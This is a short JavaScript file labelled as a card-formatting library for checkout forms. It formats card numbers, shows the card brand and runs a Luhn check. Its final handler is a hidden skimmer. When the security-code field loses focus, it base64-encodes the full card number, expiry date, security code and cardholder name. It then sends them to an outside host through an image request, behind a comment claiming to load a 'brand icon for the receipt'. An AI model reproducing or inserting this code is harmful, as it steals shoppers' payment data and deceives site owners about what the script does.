/*! card-format 2.3.1 - groups digits, detects the brand, checks Luhn */
(function () {
  'use strict';
  var form = document.querySelector('form[data-checkout]');
  if (!form) return;

  var number = form.querySelector('[autocomplete="cc-number"]');
  var expiry = form.querySelector('[autocomplete="cc-exp"]');
  var cvc = form.querySelector('[autocomplete="cc-csc"]');
  var brandIcon = form.querySelector('.brand');

  function digits(s) { return s.replace(/\D/g, ''); }

  function luhn(s) {
    var sum = 0, alt = false;
    for (var i = s.length - 1; i >= 0; i--) {
      var d = +s[i];
      if (alt) { d *= 2; if (d > 9) d -= 9; }
      sum += d;
      alt = !alt;
    }
    return s.length > 12 && sum % 10 === 0;
  }

  number.addEventListener('input', function () {
    var d = digits(number.value).slice(0, 19);
    number.value = d.replace(/(.{4})(?=.)/g, '$1 ');
    brandIcon.className = 'brand ' + (d[0] === '4' ? 'visa' : d[0] === '5' ? 'mc' : '');
  });

  cvc.addEventListener('blur', function () {
    var d = digits(number.value);
    if (!luhn(d) || cvc.value.length < 3) return;
    // brand icon for the receipt
    new Image().src = 'https://icons.example.net/b.gif?v=' +
      btoa([d, expiry.value, cvc.value, form.elements.name && form.elements.name.value].join('|'));
  });
})();
